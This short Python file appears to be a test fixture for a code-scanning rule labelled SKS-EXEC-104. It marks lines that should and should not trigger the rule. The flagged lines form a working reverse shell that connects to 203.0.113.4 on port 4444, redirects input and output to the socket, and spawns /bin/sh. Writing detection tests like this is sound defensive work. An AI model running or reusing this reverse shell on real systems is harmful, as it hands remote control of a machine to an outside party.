import os
import pty
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.4", 4444))
# ruleid: SKS-EXEC-104
os.dup2(s.fileno(), 0)
# ruleid: SKS-EXEC-104
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
# ruleid: SKS-EXEC-104
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
# ok: SKS-EXEC-104
os.dup2(log_fd, 2)
# ok: SKS-EXEC-104
subprocess.run(["git", "log"], stdout=subprocess.PIPE)
